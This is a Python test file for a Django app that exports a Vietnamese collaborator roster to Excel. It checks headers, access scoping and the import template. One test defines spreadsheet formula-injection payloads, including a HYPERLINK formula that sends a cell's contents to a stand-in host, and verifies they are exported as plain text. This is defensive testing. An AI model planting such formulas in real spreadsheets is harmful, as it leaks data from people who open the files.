from datetime import date

import pytest
from django.urls import reverse

from .factories import CollaboratorFactory, TrainingFactory, attend
from .xlsx import read_rows

pytestmark = pytest.mark.django_db

HEADERS = ("Mã đơn vị", "Tên đơn vị", "Họ và tên", "Vai trò trong mạng lưới", "Giới tính",
           "Năm sinh", "Chức vụ", "Nhóm thành phần", "Số điện thoại", "Email",
           "Số quyết định", "Ngày quyết định", "Ngày tham gia", "Trạng thái", "Ghi chú",
           "Lần tập huấn gần nhất")


def test_export_is_the_filtered_roster_with_vietnamese_headers(client_for, accounts, units):
    person = CollaboratorFactory(unit=units["BK-CK"], full_name="Nguyễn Văn Phúc",
                                 phone="0903123456", gender="male", birth_year=1980,
                                 decision_date=date(2025, 3, 1), group="leader")
    attend(TrainingFactory(organiser=units["BK"], held_on=date(2026, 1, 5)), person)
    CollaboratorFactory(unit=units["BK"], full_name="Trần Thị Lan")
    CollaboratorFactory(unit=units["KHTN"], full_name="Ngoài Phạm Vi")
    response = client_for(accounts["officer"]).get(reverse("collaborators:export"),
                                                   {"q": "phuc"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    rows = read_rows(response.content)
    assert rows[0] == HEADERS
    assert len(rows) == 2
    row = dict(zip(HEADERS, rows[1], strict=True))
    assert row["Mã đơn vị"] == "BK-CK" and row["Họ và tên"] == "Nguyễn Văn Phúc"
    assert row["Số điện thoại"] == "0903123456"  # text: the leading zero stays
    assert row["Giới tính"] == "Nam" and row["Nhóm thành phần"] == "Lãnh đạo quản lý"
    assert row["Ngày quyết định"].date() == date(2025, 3, 1)
    assert row["Lần tập huấn gần nhất"].date() == date(2026, 1, 5)


def test_export_of_an_officer_holds_their_subtree_only(client_for, accounts, units):
    CollaboratorFactory(unit=units["BK"])
    CollaboratorFactory(unit=units["KHTN"])
    rows = read_rows(client_for(accounts["officer"]).get(reverse("collaborators:export")).content)
    assert [r[0] for r in rows[1:]] == ["BK"]


def test_export_is_forbidden_to_members(client_for, accounts):
    assert client_for(accounts["member"]).get(reverse("collaborators:export")).status_code == 403


def test_the_template_has_the_import_headers_and_instructions(client_for, accounts):
    import io

    from openpyxl import load_workbook

    response = client_for(accounts["officer"]).get(reverse("collaborators:import_template"))
    workbook = load_workbook(io.BytesIO(response.content))
    sheet, guide = workbook.worksheets
    headers = [c.value for c in sheet[1]]
    assert headers[:2] == ["Mã đơn vị", "Họ và tên"] and "Lần tập huấn gần nhất" not in headers
    assert sheet.max_row == 1  # no example row that could be imported by mistake
    assert any("Đang hoạt động" in str(v.formula1) for v in sheet.data_validations.dataValidation)
    assert guide.title == "Hướng dẫn" and guide.cell(row=2, column=1).value == "Mã đơn vị"


RISKY = {"full_name": '=HYPERLINK("http://x.example/?"&A1,"Bấm")', "position": "+84 chuyên viên",
         "decision_number": "-15/QĐ", "notes": "@SUM(A1:A9)"}


def test_export_writes_what_people_typed_as_text_never_as_a_formula(client_for, accounts, units):
    import io

    from openpyxl import load_workbook

    CollaboratorFactory(unit=units["BK"], **RISKY)
    response = client_for(accounts["officer"]).get(reverse("collaborators:export"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = {sheet.cell(row=1, column=c.column).value: c for c in sheet[2]}
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    for header, key in [("Họ và tên", "full_name"), ("Chức vụ", "position"),
                        ("Số quyết định", "decision_number"), ("Ghi chú", "notes")]:
        assert cells[header].value == RISKY[key] and cells[header].data_type == "s"
        assert cells[header].quotePrefix  # retyping the cell in Excel keeps it text
